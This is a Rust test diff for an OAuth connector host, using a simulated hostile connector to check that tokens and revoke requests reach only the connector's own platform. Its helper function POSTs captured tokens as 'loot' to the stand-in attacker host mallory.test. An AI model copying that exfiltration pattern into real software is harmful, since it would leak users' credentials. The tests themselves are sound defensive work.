@@ -18,7 +18,7 @@ use connector_core::{
 };
 use connector_host::store::{Connected, ConnectionFilter, StoreError};
 use connector_host::testing::{Example, Installation, TENANT, callback, request};
-use connector_host::{Callback, CameTo, ConnectRequest, Host};
+use connector_host::{Callback, CameTo, ConnectRequest, Host, Revocation};
 use http::Method;
 use url::Url;
 
@@ -28,6 +28,9 @@ const HOSTILE: &str = "mallory";
 
 const HONEST_HOST: &str = "example.test";
 const HOSTILE_HOST: &str = "mallory.test";
+
+/// No platform is there.
+const ELSEWHERE: &str = "elsewhere.test";
 
 /// Whose account the attacker is after.
 const VICTIM: &str = "victim";
@@ -47,11 +50,18 @@ impl Mallory {
     }
 }
 
-/// Sends home what a call brought.
+/// Sends home what a call brought, and tries to send it to others first.
 async fn send_home<'a>(cx: &Context, loot: impl IntoIterator<Item = &'a str>) {
-    let url = format!("https://{HOSTILE_HOST}/token").parse().unwrap();
-    let loot = loot.into_iter().map(|text| ("loot", text));
-    cx.send(Request::new(Method::POST, url, Policy::TOKEN).form(loot)).await.unwrap();
+    let loot: Vec<_> = loot.into_iter().map(|text| ("loot", text)).collect();
+    let to = |host| {
+        let url = format!("https://{host}/token").parse().unwrap();
+        cx.send(Request::new(Method::POST, url, Policy::TOKEN).form(loot.iter().copied()))
+    };
+    for host in [ELSEWHERE, HONEST_HOST] {
+        let refused = to(host).await.unwrap_err();
+        assert!(refused.message.contains(host) && refused.message.contains("[base_urls]"), "{refused}");
+    }
+    to(HOSTILE_HOST).await.unwrap();
 }
 
 impl Connector for Mallory {
@@ -108,7 +118,9 @@ impl OAuthProvider for Mallory {
     }
 
     fn revoke_request(&self, app: &App, grant: &Grant) -> Result<Request> {
-        self.as_by_data().revoke_request(app, grant)
+        let mut request = self.as_by_data().revoke_request(app, grant)?;
+        request.url.set_host(Some(ELSEWHERE)).unwrap();
+        Ok(request)
     }
 
     fn read_revoke(&self, answer: &RawAnswer) -> RevokeOutcome {
@@ -136,7 +148,8 @@ impl Bench {
     async fn new() -> Self {
         let platforms = FakeTransport::default();
         let honest = Example::default();
-        let hostile = Example { id: HOSTILE, origin: format!("https://{HOSTILE_HOST}"), ..Example::default() };
+        let origin = format!("https://{HOSTILE_HOST}");
+        let hostile = Example { id: HOSTILE, origin, revoke: Some("access"), ..Example::default() };
         let installation = Installation::new(honest.clone(), platforms.context()).unwrap();
         let mut opening = installation.opening().await.unwrap();
         opening.registry = Registry::new([honest.registration(), hostile.registered(Mallory::build)]).unwrap();
@@ -280,4 +293,17 @@ async fn it_gets_the_tokens_of_the_call_alone() {
         assert!(!loot.contains(theirs), "{theirs}: {loot}");
     }
     assert!(honest.contains("example-code") && !honest.contains("mallory-code"), "each code goes to its own platform");
+    assert_eq!(bench.sent_to(ELSEWHERE), "", "what it is given goes to its own platform alone");
+}
+
+#[tokio::test]
+async fn a_request_that_it_writes_for_the_host_goes_to_its_own_platform_or_nowhere() {
+    let bench = Bench::new().await;
+    bench.connect(TENANT, HOSTILE).await;
+    let id = bench.connections(TENANT).await[0].connection.id.clone();
+    let before = bench.platforms.sent().len();
+    let given_up = bench.host.disconnect(TENANT, &id).await.unwrap();
+    let Revocation::Pending(error) = given_up.revocation else { panic!("{:?}", given_up.revocation) };
+    assert!(error.to_string().contains("https://elsewhere.test was not sent"), "{error}");
+    assert_eq!(bench.platforms.sent().len(), before);
 }
